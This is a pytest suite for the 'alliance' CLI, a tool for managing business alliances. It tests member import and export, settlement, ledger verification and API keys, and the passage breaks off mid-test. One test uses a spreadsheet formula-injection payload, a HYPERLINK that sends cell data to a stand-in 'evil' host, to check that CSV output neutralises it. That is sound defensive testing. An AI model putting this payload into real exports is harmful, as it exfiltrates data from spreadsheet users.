"""The `alliance` command end to end: outputs, files in both header languages, exit codes."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, date, datetime, time
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook
from rich.table import Table
from typer.testing import CliRunner

from alliance.cli.main import app
from alliance.core.clock import SystemClock, local_today
from alliance.language import get_translations
from tests.support.factories import credit_code

runner = CliRunner()


@pytest.fixture
def cli(database_url: str, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    monkeypatch.setenv("ALLIANCE_DATABASE_URL", database_url)

    def invoke(*args: str) -> object:
        return runner.invoke(app, list(args), catch_exceptions=False)

    invoke("alliance", "create", "nb", "--name", "宁波精密零部件企业联盟", "--kind", "sme", "--structure", "umbrella")
    return invoke


def members_json(cli) -> list[dict[str, object]]:  # type: ignore[no-untyped-def]
    result = cli("member", "list", "--alliance", "nb", "--format", "json")
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def write_csv(path: Path, header: list[str], rows: list[list[str]], encoding: str = "utf-8-sig") -> Path:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *rows])
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def write_xlsx(path: Path, header: list[str], rows: list[list[object]]) -> Path:
    wb = Workbook()
    ws = wb.active
    ws.append(header)
    for row in rows:
        ws.append(row)
    wb.save(path)
    return path


def test_alliance_commands(cli) -> None:  # type: ignore[no-untyped-def]
    r = cli("alliance", "create", "nb-buy", "--name", "联合采购小组", "--parent", "nb")
    assert r.exit_code == 0 and "nb-buy" in r.stdout
    listed = json.loads(cli("alliance", "list", "-f", "json").stdout)
    assert [(a["code"], a["parent"]) for a in listed] == [("nb", None), ("nb-buy", "nb")]
    shown = json.loads(cli("alliance", "show", "nb", "-f", "json").stdout)
    assert shown["sub_alliances"] == ["nb-buy"] and shown["structure"] == "umbrella"
    rows = list(csv.reader(io.StringIO(cli("alliance", "list", "-f", "csv").stdout)))
    assert rows[0][:2] == ["code", "name"] and rows[2][0] == "nb-buy"
    table = cli("alliance", "list").stdout
    assert "nb-buy" in table and "umbrel" in table


def test_errors_are_said_in_the_terminals_language(cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    zh = get_translations("zh_CN").gettext
    monkeypatch.setenv("LANGUAGE", "")
    monkeypatch.setenv("LC_ALL", "")
    monkeypatch.setenv("LANG", "zh_CN.UTF-8")
    r = cli("member", "list", "--alliance", "nope")
    assert r.exit_code == 1 and zh("no alliance with code {code!r}").format(code="nope") in r.stderr
    assert zh("error:") in r.stderr and "no alliance" not in r.stderr
    monkeypatch.setenv("LANG", "en_US.UTF-8")
    r = cli("member", "list", "--alliance", "nope")
    assert r.exit_code == 1 and "error: no alliance with code 'nope'" in r.stderr


def test_alliance_create_refusals(cli) -> None:  # type: ignore[no-untyped-def]
    r = cli("alliance", "create", "nb", "--name", "again")
    assert r.exit_code == 2 and "already exists" in r.stderr
    r = cli("alliance", "create", "x", "--name", "x", "--parent", "missing")
    assert r.exit_code == 1 and "no alliance with code 'missing'" in r.stderr
    r = cli("alliance", "create", "y", "--name", "y", "--currency", "ABC")
    assert r.exit_code == 2 and "unknown currency" in r.stderr
    r = cli("alliance", "create", "z", "--name", "z", "--kind", "cartel")
    assert r.exit_code == 2  # Click's usage error
    assert len(json.loads(cli("alliance", "list", "-f", "json").stdout)) == 1


def test_member_add_show_list(cli) -> None:  # type: ignore[no-untyped-def]
    r = cli("member", "add", "-a", "nb", "--code", "YJ", "--name", "宁波甬精机械有限公司",
            "--credit-code", credit_code(1), "--revenue", "12,345,678.90", "--debt-ratio", "45%", "--size", "小型")
    assert r.exit_code == 0, r.output
    shown = json.loads(cli("member", "show", "YJ", "-a", "nb", "-f", "json").stdout)
    assert shown["revenue"] == "12345678.90" and shown["debt_ratio"] == "0.45" and shown["size"] == "small"
    assert "宁波甬精机械有限公司" in cli("member", "show", "YJ", "-a", "nb").stdout
    assert [m["code"] for m in members_json(cli)] == ["YJ"]


def test_csv_output_shows_formula_like_names_as_text(cli) -> None:  # type: ignore[no-untyped-def]
    name = '=HYPERLINK("http://evil/?"&A1,"点我")'
    r = cli("member", "add", "-a", "nb", "--code", "YJ", "--name", name, "--credit-code", credit_code(1),
            "--revenue", "12.50")
    assert r.exit_code == 0, r.output
    header, row = list(csv.reader(io.StringIO(cli("member", "list", "-a", "nb", "-f", "csv").stdout)))
    assert row[header.index("name")] == "'" + name
    header, row = list(csv.reader(io.StringIO(cli("member", "show", "YJ", "-a", "nb", "-f", "csv").stdout)))
    assert row[header.index("name")] == "'" + name and row[header.index("revenue")] == "12.50"


def test_member_add_bad_values_exit_2_and_add_nothing(cli) -> None:  # type: ignore[no-untyped-def]
    r = cli("member", "add", "-a", "nb", "--code", "YJ", "--name", "甲", "--credit-code", "91330200MA2H1234X",
            "--revenue", "1.234")
    assert r.exit_code == 2
    assert "credit_code" in r.stderr and "revenue" in r.stderr and "Traceback" not in r.output
    assert members_json(cli) == []


@pytest.mark.parametrize("lang", ["en", "zh"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_import_round_trip(cli, tmp_path: Path, lang: str, fmt: str) -> None:  # type: ignore[no-untyped-def]
    for n in range(3):
        r = cli("member", "add", "-a", "nb", "--code", f"M{n}", "--name", f"企业{n}", "--credit-code", credit_code(n),
                "--revenue", f"{n}000.05", "--region", "浙江宁波", "--joined-on", "2025-06-0" + str(n + 1),
                "--patent-count", str(n))
        assert r.exit_code == 0, r.output
    exported = tmp_path / f"members.{fmt}"
    r = cli("member", "export", "-a", "nb", "-o", str(exported), "--headers", lang)
    assert r.exit_code == 0, r.output
    if fmt == "xlsx":
        header = [c.value for c in next(load_workbook(exported).active.iter_rows(max_row=1))]
    else:
        header = next(csv.reader(io.StringIO(exported.read_text(encoding="utf-8-sig"))))
    assert header[1] == ("name" if lang == "en" else "名称")
    before = members_json(cli)
    cli("alliance", "create", "copy", "--name", "副本")
    r = cli("member", "import", str(exported), "-a", "copy")
    assert r.exit_code == 0, r.output
    copied = json.loads(cli("member", "list", "-a", "copy", "-f", "json").stdout)
    assert [{**m, "alliance": "nb"} for m in copied] == before


def test_import_chinese_xlsx_with_typed_cells(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from datetime import datetime

    path = write_xlsx(
        tmp_path / "成员.xlsx",
        ["名称", "编码", "统一社会信用代码", "行业", "营业收入", "资产负债率", "专利数", "加入日期"],
        [["宁波精工模具有限公司", "JG", credit_code(9), "精密制造", 1234.5, 0.38, 12, datetime(2025, 3, 1)]],
    )
    r = cli("member", "import", str(path), "-a", "nb")
    assert r.exit_code == 0, r.output
    (m,) = members_json(cli)
    assert (m["revenue"], m["debt_ratio"], m["patent_count"], m["joined_on"]) == ("1234.50", "0.38", "12", "2025-03-01")


def test_import_gbk_csv_from_excel(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = write_csv(tmp_path / "gbk.csv", ["名称", "编码", "统一社会信用代码", "地区"],
                     [["宁波精工模具有限公司", "JG", credit_code(9), "浙江宁波"]], encoding="gb18030")
    r = cli("member", "import", str(path), "-a", "nb")
    assert r.exit_code == 0, r.output
    assert members_json(cli)[0]["region"] == "浙江宁波"


def test_bad_import_writes_nothing_lists_every_row_and_exits_2(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    cli("member", "add", "-a", "nb", "--code", "OLD", "--name", "老成员", "--credit-code", credit_code(1))
    path = write_csv(
        tmp_path / "bad.csv",
        ["code", "name", "credit_code", "revenue"],
        [
            ["A1", "甲", credit_code(2), "100"],
            ["A2", "", credit_code(3), "100"],  # row 3: missing name
            ["A3", "丙", credit_code(4)[:-1] + "I", "100"],  # row 4: invalid credit code
            ["A1", "丁", credit_code(5), "100"],  # row 5: duplicate code in the file
            ["OLD", "戊", credit_code(6), "100"],  # row 6: code already in the alliance
            ["A7", "己", credit_code(7), "12.345"],  # row 7: bad number
        ],
    )
    r = cli("member", "import", str(path), "-a", "nb")
    assert r.exit_code == 2
    for row in ("row 3", "row 4", "row 5", "row 6", "row 7"):
        assert row in r.stderr
    assert not any(line.startswith("row 2 ") for line in r.stderr.splitlines())
    assert "nothing was imported" in r.stderr
    assert [m["code"] for m in members_json(cli)] == ["OLD"]


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (("member", "list", "-a", "nope"), 1, "no alliance with code 'nope'"),
        (("member", "show", "X", "-a", "nb"), 1, "has no member with code 'X'"),
        (("member", "import", "/nonexistent/m.csv", "-a", "nb"), 2, "no such file"),
        (("member", "import", "/etc/hostname", "-a", "nb"), 2, "unsupported file type"),
        (("member", "export", "-a", "nb", "-f", "pdf"), 2, "unsupported export format"),
        (("member", "export", "-a", "nb", "-f", "xlsx"), 2, "give --output"),
    ],
)
def test_errors_are_one_clear_line(cli, args: tuple[str, ...], code: int, message: str) -> None:  # type: ignore[no-untyped-def]
    r = cli(*args)
    assert r.exit_code == code
    assert message in r.stderr
    assert "Traceback" not in r.output


def test_not_an_xlsx_file(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    fake = tmp_path / "fake.xlsx"
    fake.write_text("not a zip")
    r = cli("member", "import", str(fake), "-a", "nb")
    assert r.exit_code == 2 and "not a valid XLSX workbook" in r.stderr


def test_large_import_through_the_cli(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    rows = [[f"B{i:05d}", f"批量企业{i}", credit_code(i)] for i in range(3000)]
    r = cli("member", "import", str(write_csv(tmp_path / "big.csv", ["code", "name", "credit_code"], rows)), "-a", "nb")
    assert r.exit_code == 0, r.output
    assert "Imported 3000 member(s)" in r.stdout
    assert json.loads(cli("alliance", "show", "nb", "-f", "json").stdout)["member_count"] == 3000


def test_unreachable_database_real_process(tmp_path: Path) -> None:
    env = {**os.environ, "ALLIANCE_DATABASE_URL": "postgresql+psycopg://nobody@127.0.0.1:9/none"}
    done = subprocess.run(
        [sys.executable, "-m", "alliance", "alliance", "list"], env=env, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 1
    assert "cannot open database postgresql+psycopg://nobody@127.0.0.1:9/none" in done.stderr
    assert "Traceback" not in done.stderr
    assert len(done.stderr.strip().splitlines()) <= 2


def test_plain_postgresql_scheme_means_psycopg(postgres_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ALLIANCE_DATABASE_URL", postgres_url.replace("postgresql+psycopg://", "postgresql://"))
    r = runner.invoke(app, ["alliance", "list", "-f", "json"], catch_exceptions=False)
    assert r.exit_code == 0, r.output


def test_unopenable_sqlite_path(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("")
    env = {**os.environ, "ALLIANCE_HOME": str(blocker / "sub")}
    env.pop("ALLIANCE_DATABASE_URL", None)
    done = subprocess.run([sys.executable, "-m", "alliance", "alliance", "create", "nb", "--name", "宁波联盟", "--kind",
                           "sme"], env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "cannot create data directory" in done.stderr


def test_a_misspelled_data_directory_is_refused_not_created(tmp_path: Path) -> None:
    env = {**os.environ, "ALLIANCE_HOME": str(tmp_path / "dta")}
    env.pop("ALLIANCE_DATABASE_URL", None)
    for argv in (["alliance", "list"], ["member", "list", "-a", "nb"], ["ledger", "verify", "-a", "nb"]):
        done = subprocess.run([sys.executable, "-m", "alliance", *argv], env=env, capture_output=True, text=True,
                              timeout=60)
        assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
        assert done.stderr.count("\n") == 1 and "no data directory at" in done.stderr and "dta" in done.stderr
        assert not (tmp_path / "dta").exists()
    made = subprocess.run([sys.executable, "-m", "alliance", "alliance", "create", "nb", "--name", "宁波联盟", "--kind",
                           "sme"], env=env, capture_output=True, text=True, timeout=60)
    assert made.returncode == 0, made.stderr
    listed = subprocess.run([sys.executable, "-m", "alliance", "alliance", "list"], env=env, capture_output=True,
                            text=True, timeout=60)
    assert listed.returncode == 0 and "nb" in listed.stdout


def test_orders_import_through_the_cli(cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setenv("ALLIANCE_FACTS_PATH", str(tmp_path / "facts.duckdb"))
    for n in (1, 2):
        cli("member", "add", "-a", "nb", "--code", f"M{n}", "--name", f"企业{n}", "--credit-code", credit_code(n))
    header = "line_id,order_id,occurred_at,seller,product_owner,channel,sku,quantity,amount,currency"
    good = tmp_path / "good.csv"
    good.write_text(f"{header}\nL1,O1,2027-01-15T10:00:00+08:00,M1,M2,store,S1,1,99.90,CNY\n", encoding="utf-8")
    r = cli("orders", "import", str(good), "-a", "nb")
    assert r.exit_code == 0, r.output
    assert cli("orders", "count", "-a", "nb").stdout.strip() == "1"
    bad = tmp_path / "bad.csv"
    bad.write_text(f"{header}\nL2,O2,2027-01-15T10:00:00+08:00,M1,XX,store,S1,1,5,CNY\n"
                   f"L1,O1,2027-01-15T10:00:00+08:00,M1,M2,store,S1,1,99.00,CNY\n", encoding="utf-8")
    r = cli("orders", "import", str(bad), "-a", "nb")
    assert r.exit_code == 2
    # Amounts as money, never the stored minor units.
    assert "product_owner 'XX' is not a member" in r.stderr and "amount=99.90 CNY" in " ".join(r.stderr.split())
    assert "amount=99.00 CNY" in " ".join(r.stderr.split()) and "amount_minor" not in r.stderr and "9990" not in r.stderr
    assert "nothing was imported" in r.stderr
    assert cli("orders", "count", "-a", "nb").stdout.strip() == "1"
    r = cli("orders", "count", "-a", "nope")
    assert r.exit_code == 1 and "no alliance with code 'nope'" in r.stderr


def test_member_leave(cli) -> None:  # type: ignore[no-untyped-def]
    cli("member", "add", "-a", "nb", "--code", "A", "--name", "甲", "--credit-code", credit_code(1), "--joined-on", "2025-01-01")
    r = cli("member", "leave", "A", "-a", "nb", "--on", "2026-06-30")
    assert r.exit_code == 0 and "left nb on 2026-06-30" in r.stdout
    assert members_json(cli) == []
    assert cli("member", "leave", "A", "-a", "nb").exit_code == 2
    assert cli("member", "leave", "A", "-a", "nb", "--on", "someday").exit_code == 2


@pytest.fixture(params=["02:00", "23:30"])
def cli_clock(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> datetime:
    """The CLI's clock, frozen before the alliance is founded, at a time of day in UTC: 23:30 UTC is
    already the next day in the alliance's Asia/Shanghai, where the machine's date is not the business day."""
    at = datetime.combine(date(2026, 11, 22), time.fromisoformat(request.param), UTC)
    monkeypatch.setattr(SystemClock, "now", lambda self: at)
    return at


def test_settle_and_statement_through_the_cli(cli_clock: datetime, cli, tmp_path: Path,  # type: ignore[no-untyped-def]
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    from datetime import timedelta

    monkeypatch.setenv("ALLIANCE_FACTS_PATH", str(tmp_path / "facts.duckdb"))
    for n, code in ((1, "SW"), (2, "HW")):
        cli("member", "add", "-a", "nb", "--code", code, "--name", f"{code} 公司", "--credit-code", credit_code(n))
    # The business day of the clock the CLI uses (an agreement from tomorrow, settled days later,
    # is the service's to test: here only the refusals and an empty day go through the CLI).
    today = local_today(SystemClock(), "Asia/Shanghai")
    r = cli("settle", "-a", "nb", "--day", (today + timedelta(days=1)).isoformat())
    assert r.exit_code == 2 and "not over yet" in r.stderr
    yesterday = (today - timedelta(days=1)).isoformat()
    r = cli("settle", "-a", "nb")  # the alliance was founded today: yesterday holds nothing to settle
    assert r.exit_code == 2 and "before 'nb' was founded" in r.stderr
    lines = tmp_path / "lines.csv"
    lines.write_text("line_id,order_id,occurred_at,seller,product_owner,channel,sku,quantity,amount,currency\n"
                     f"L1,O1,{yesterday}T10:00:00+08:00,SW,HW,store,S1,1,10.00,CNY\n", encoding="utf-8")
    assert cli("orders", "import", str(lines), "-a", "nb").exit_code == 0
    # Lines and no agreement in force: closing the day would share nothing, so it asks first.
    r = cli("settle", "-a", "nb")
    assert r.exit_code == 2 and "1 order line(s) but no agreement" in r.stderr, r.output
    assert "nothing shared" in r.stderr and "--allow-unshared" in r.stderr and "Settled" not in r.stdout
    r = cli("settle", "-a", "nb", "--allow-unshared")
    assert r.exit_code == 0 and "no agreement in force" in r.stdout
    assert "Nothing was shared" in r.stdout
    assert cli("settle", "-a", "nb").exit_code == 2  # yesterday is now closed
    r = cli("statement", "-a", "nb", "--member", "SW", "--day", yesterday, "-f", "json")
    assert r.exit_code == 0 and json.loads(r.stdout)["total"] == "0.00"
    r = cli("statement", "-a", "nb", "--member", "SW", "--day", "2020-01-01")
    assert r.exit_code == 1 and "has not been settled" in r.stderr




def test_settle_through_catches_up_in_order(cli_clock: datetime, cli, tmp_path: Path,  # type: ignore[no-untyped-def]
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    from datetime import timedelta

    monkeypatch.setenv("ALLIANCE_FACTS_PATH", str(tmp_path / "facts.duckdb"))
    cli("member", "add", "-a", "nb", "--code", "A", "--name", "A 公司", "--credit-code", credit_code(1))
    yesterday = local_today(SystemClock(), "Asia/Shanghai") - timedelta(days=1)
    first = yesterday - timedelta(days=2)
    lines = tmp_path / "lines.csv"
    lines.write_text("line_id,order_id,occurred_at,seller,product_owner,channel,sku,quantity,amount,currency\n"
                     f"L1,O1,{first.isoformat()}T10:00:00+08:00,A,A,store,S1,1,10.00,CNY\n", encoding="utf-8")
    assert cli("orders", "import", str(lines), "-a", "nb").exit_code == 0
    r = cli("settle", "-a", "nb")  # yesterday, but an earlier day holds lines
    assert r.exit_code == 2 and f"settles {first.isoformat()} first" in r.stderr, r.output
    r = cli("settle", "-a", "nb", "--through", yesterday.isoformat())
    assert r.exit_code == 2 and f"{first.isoformat()} has 1 order line(s) but no agreement" in r.stderr, r.output
    r = cli("settle", "-a", "nb", "--through", yesterday.isoformat(), "--allow-unshared")
    assert r.exit_code == 0, r.output
    assert [l.split(":")[0] for l in r.stdout.splitlines() if l.startswith("Settled")] == [
        f"Settled nb {(first + timedelta(days=i)).isoformat()}" for i in range(3)]
    r = cli("settle", "-a", "nb", "--through", yesterday.isoformat())
    assert r.exit_code == 0 and "Nothing to settle" in r.stdout
    r = cli("settle", "-a", "nb", "--day", yesterday.isoformat(), "--through", yesterday.isoformat())
    assert r.exit_code == 2 and "not both" in r.stderr


def test_settle_warns_of_a_party_paid_after_it_left(cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    # The CLI runs on the real clock (see above), so the run itself is the service's, tested in
    # tests/e2e/test_api_settlement.py; this checks what the command prints of it.
    from datetime import date

    from alliance.core.money import Money
    from alliance.settlement import service
    from alliance.sharing.versions import DepartedParty

    result = service.SettlementResult(date(2027, 1, 15), 3, 0, [{"agreement": "split", "version": 2, "sha256": "0"}],
                                      {"A": Money(-100, "CNY"), "B": Money(100, "CNY")},
                                      [DepartedParty("split", 2, "B", date(2027, 1, 10))])
    monkeypatch.setattr(service, "settle", lambda *args, **kwargs: result)
    r = cli("settle", "-a", "nb", "--day", "2027-01-15")
    assert r.exit_code == 0, r.output
    assert "split v2 still allocates to B, which left on 2027-01-10" in r.stdout


def test_contribution_report_through_the_cli(cli, database_url: str, tmp_path: Path,  # type: ignore[no-untyped-def]
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    from datetime import timedelta

    from alliance.access.roles import Role
    from alliance.access.service import create_user, grant_role
    from alliance.core.clock import SystemClock
    from alliance.store.database import Store

    monkeypatch.setenv("ALLIANCE_FACTS_PATH", str(tmp_path / "facts.duckdb"))
    day = (local_today(SystemClock(), "Asia/Shanghai") + timedelta(days=3)).isoformat()  # proposals take effect later
    for n, code in ((1, "A"), (2, "B")):
        cli("member", "add", "-a", "nb", "--code", code, "--name", f"{code} 公司", "--credit-code", credit_code(n))
    agreement = tmp_path / "refer.yaml"
    agreement.write_text(f"agreement: refer\neffective_from: {day}\nparties: [A, B]\nrules:\n"
                         "  - {id: r, kind: contribution, select: {channel: referral}}\n", encoding="utf-8")
    r = cli("agreement", "propose", str(agreement), "-a", "nb")
    assert r.exit_code == 0, r.stderr
    accounts = Store.open(database_url)  # each party signs as its own admin (issue 16)
    try:
        for member in ("A", "B"):
            create_user(accounts, f"{member.lower()}-admin", "a long password 1", f"{member} 法务", SystemClock())
            grant_role(accounts, f"{member.lower()}-admin", Role.MEMBER_ADMIN, "nb", member)
    finally:
        accounts.close()
    for member in ("A", "B"):
        r = cli("agreement", "sign", "refer", "-a", "nb", "--version", "1", "--member", member, "--signer", "代表",
                "--as", f"{member.lower()}-admin")
        assert r.exit_code == 0, r.output
    lines = tmp_path / "lines.csv"
    lines.write_text("line_id,order_id,occurred_at,seller,product_owner,channel,sku,quantity,amount,attributed_to,currency\n"
                     f"L1,O1,{day}T10:00:00+08:00,A,A,referral,S1,1,10.00,A;B,CNY\n", encoding="utf-8")
    assert cli("orders", "import", str(lines), "-a", "nb").exit_code == 0
    args = ("contribution", "report", "-a", "nb", "--agreement", "refer", "--rule", "r", "--from", day, "--to", day)
    r = cli(*args, "--format", "json")
    assert r.exit_code == 0, r.output
    body = json.loads(r.stdout)
    assert {m["member"]: m["shapley"] for m in body["members"]} == {"A": "5.00", "B": "5.00"}
    r = cli(*args)
    assert r.exit_code == 0 and "# Contribution report: refer / r" in r.stdout
    out = tmp_path / "report.html"
    assert cli(*args, "--format", "html", "-o", str(out)).exit_code == 0 and "<table>" in out.read_text(encoding="utf-8")
    r = cli("contribution", "report", "-a", "nb", "--agreement", "refer", "--rule", "r", "--from", day, "--to", "soon")
    assert r.exit_code == 2 and "--to 'soon' is not a date" in r.stderr


def test_ledger_through_the_cli(cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from alliance.ledger.merkle import verify_consistency, verify_inclusion

    for n in (1, 2, 3):
        cli("member", "add", "-a", "nb", "--code", f"M{n}", "--name", f"企业{n}", "--credit-code", credit_code(n))
    r = cli("ledger", "checkpoint", "-a", "nb")
    assert r.exit_code == 0, r.output
    lines = r.stdout.split("\n")
    assert lines[0] == "alliance.local/ledger/nb" and lines[1] == "4" and lines[3] == "previous 3"  # chained
    assert lines[5].startswith("\u2014 alliance.local/ledger/nb ")
    key = cli("ledger", "public-key", "-a", "nb").stdout.strip()
    assert key.startswith("alliance.local/ledger/nb+")
    proof = json.loads(cli("ledger", "proof", "-a", "nb", "--index", "2", "--format", "json").stdout)
    assert set(proof) == {"leaf_index", "tree_size", "leaf_hash", "root_hash", "proof"} and proof["tree_size"] == 4
    assert verify_inclusion(2, 4, bytes.fromhex(proof["leaf_hash"]), [bytes.fromhex(p) for p in proof["proof"]],
                            bytes.fromhex(proof["root_hash"]))
    kept = tmp_path / "kept.note"
    kept.write_text(r.stdout, encoding="utf-8")
    cli("member", "add", "-a", "nb", "--code", "M4", "--name", "企业4", "--credit-code", credit_code(4))
    c = json.loads(cli("ledger", "consistency", "-a", "nb", "--from", "4", "--to", "5", "--format", "json").stdout)
    assert set(c) == {"from", "to", "from_root", "to_root", "proof"} and c["from_root"] == proof["root_hash"]
    assert verify_consistency(4, 5, [bytes.fromhex(p) for p in c["proof"]], bytes.fromhex(c["from_root"]),
                              bytes.fromhex(c["to_root"]))
    r = cli("ledger", "verify", "-a", "nb", "--checkpoint", str(kept))
    assert r.exit_code == 0 and "OK: 5 entries" in r.stdout and "read from the database itself" in r.stderr
    r = cli("ledger", "verify", "-a", "nb", "--key", key)
    assert r.exit_code == 0 and "OK: 5 entries" in r.stdout and "warning" not in r.stderr
    pinned = tmp_path / "trusted-keys.txt"
    pinned.write_text(f"# kept by M1\n{key}\n", encoding="utf-8")
    monkeypatch.setenv("ALLIANCE_LEDGER_TRUSTED_KEYS", str(pinned))
    assert cli("ledger", "verify", "-a", "nb").exit_code == 0
    from alliance.ledger.note import Signer

    forged = str(Signer("alliance.local/ledger/nb", Ed25519PrivateKey.generate()).verifier)  # another key, same name
    pinned.write_text(forged + "\n", encoding="utf-8")
    r = cli("ledger", "verify", "-a", "nb")
    assert r.exit_code == 3 and "is not the pinned one" in r.stderr
    monkeypatch.delenv("ALLIANCE_LEDGER_TRUSTED_KEYS")
    out = tmp_path / "export"
    assert cli("ledger", "export", "-a", "nb", "--out", str(out)).exit_code == 0
    r = cli("ledger", "verify", "--export", str(out), "--key", key)
    assert r.exit_code == 0, r.output
    entries = (out / "entries.jsonl").read_text(encoding="utf-8").replace("企业2", "企业X")
    (out / "entries.jsonl").write_text(entries, encoding="utf-8")
    r = cli("ledger", "verify", "--export", str(out), "--key", key)
    assert r.exit_code == 3 and "checkpoint of size 3" in r.stderr  # the one signed with entry 2
    witness_key = tmp_path / "witness.pem"
    witness_key.write_bytes(Ed25519PrivateKey.generate().private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    r = cli("ledger", "witness", "-a", "nb", "--size", "4", "--name", "M1.witness", "--key-file", str(witness_key))
    assert r.exit_code == 0 and "\u2014 M1.witness " in r.stdout
    assert cli("ledger", "proof", "-a", "nb", "--index", "99").exit_code == 2
    assert cli("ledger", "verify").exit_code == 2
    assert cli("ledger", "checkpoint", "-a", "nope").exit_code == 1


def test_api_keys_through_the_cli(cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    from alliance.cli.output import console

    monkeypatch.setattr(console, "width", 160)  # the table unwrapped, whatever the test's terminal
    assert cli("member", "add", "-a", "nb", "--code", "M1", "--name", "甲公司", "--credit-code", credit_code(1)).exit_code == 0
    made = cli("apikey", "create", "--role", "member_analyst", "--alliance", "nb", "--member", "M1", "--name", "ERP",
               "--scope", "read_member_data", "--scope", "read_records", "--expires", "90d")
    assert made.exit_code == 0, made.output
    key = made.stdout.strip().splitlines()[0]
    assert key.startswith("al_")
    refused = cli("apikey", "create", "--role", "member_analyst", "--alliance", "nb", "--member", "M1",
                  "--scope", "import_orders")
    assert refused.exit_code == 2 and "may not import orders" in refused.output
    whole = cli("apikey", "create", "--role", "auditor", "--alliance", "nb")
    assert whole.exit_code == 0, whole.output
    listed = json.loads(cli("apikey", "list", "--alliance", "nb", "--json").stdout)
    assert len(listed) == 2  # the refused key was not made
    by_name = {k["name"]: k for k in listed}
    assert by_name["ERP"]["scopes"] == ["read_member_data", "read_records"] and by_name["ERP"]["prefix"] == key[3:11]
    assert [k["scopes"] for k in listed if k["name"] != "ERP"] == [None]
    table = cli("apikey", "list", "--alliance", "nb").stdout
    assert "read_member_data" in table and "(all of the role)" in table
    assert "+08:00" in table  # the expiry in the alliance's zone, with it
    assert cli("apikey", "revoke", key[:11]).exit_code == 0  # "al_" and the prefix, as listed elsewhere
    assert cli("apikey", "revoke", key[3:11]).exit_code != 0  # already revoked
    other = whole.stdout.strip().splitlines()[-1].strip()
    assert cli("apikey", "revoke", other).exit_code == 0, other  # the whole key does too


def test_user_unlock_clears_failed_sign_ins(cli, database_url: str) -> None:  # type: ignore[no-untyped-def]
    from alliance.access.service import NotAuthenticated, sign_in
    from alliance.core.clock import SystemClock
    from alliance.store.database import Store

    result = runner.invoke(app, ["user", "create", "wu", "--password-stdin"], input="a long enough password\n")
    assert result.exit_code == 0, result.output
    cli("user", "grant", "wu", "--role", "auditor", "--alliance", "nb")
    store = Store.open(database_url)
    try:
        for _ in range(5):
            with pytest.raises(NotAuthenticated):
                sign_in(store, "wu", "a wrong password!", SystemClock())
        with pytest.raises(NotAuthenticated):
            sign_in(store, "wu", "a long enough password", SystemClock())  # waiting
        result = cli("user", "unlock", "wu")
        assert result.exit_code == 0 and "wu may sign in again" in result.output
        assert sign_in(store, "wu", "a long enough password", SystemClock()).token
        result = runner.invoke(app, ["user", "unlock", "ghost"])
        assert result.exit_code != 0 and "ghost" in result.output
    finally:
        store.close()


def test_the_cli_shows_business_dates_and_times_in_the_alliances_zone(cli_clock: datetime, cli) -> None:  # type: ignore[no-untyped-def]
    # At 23:30 UTC on the 22nd it is already the 23rd in Asia/Shanghai: the business day, not the UTC date.
    local = cli_clock.astimezone(ZoneInfo("Asia/Shanghai"))
    assert cli("prospect", "add", "伙伴甲", "-a", "nb").exit_code == 0
    listed = cli("prospect", "list", "-a", "nb")
    assert listed.exit_code == 0 and local.date().isoformat() in listed.stdout, listed.stdout
    if local.date() != cli_clock.date():
        assert cli_clock.date().isoformat() not in listed.stdout
    shown = cli("prospect", "show", "1", "-a", "nb")
    flat = " ".join(shown.stdout.split())
    assert f"{local:%Y-%m-%d %H:%M} +08:00" in flat, shown.stdout
    assert "+00:00" not in shown.stdout


def test_the_cli_never_prints_a_negative_zero(cli) -> None:  # type: ignore[no-untyped-def]
    from alliance.cli import output

    assert output.fixed(-1e-12, 3) == "0.000" and output.fixed(-0.0, 2) == "0.00" and output.fixed(-0.004, 2) == "0.00"
    assert output.fixed(-0.005001, 2) == "-0.01" and output.fixed(Decimal("-0.0000"), 4) == "0.0000"
    assert output.unsigned_zero("ratio -0.000, -0.00 CNY, -0.001, 2026-01-05, L-0, -05") == \
        "ratio 0.000, 0.00 CNY, -0.001, 2026-01-05, L-0, -05"
    with output.console.capture() as text:
        output.console.print(f"consistency ratio {-1e-9:.3f}", highlight=False)
        table = Table("score", "name")
        table.add_row(f"{-1e-12:.6f}", "a")
        table.add_row("-1.500000", "b")
        output.console.print(table)
    printed = text.get()
    assert "-0.0" not in printed and "consistency ratio 0.000" in printed and "-1.500000" in printed
    widths = {len(line) for line in printed.splitlines()[1:] if line.strip()}
    assert len(widths) == 1  # the table's borders still line up
    for fmt in (output.OutputFormat.JSON, output.OutputFormat.CSV):
        out = io.StringIO()
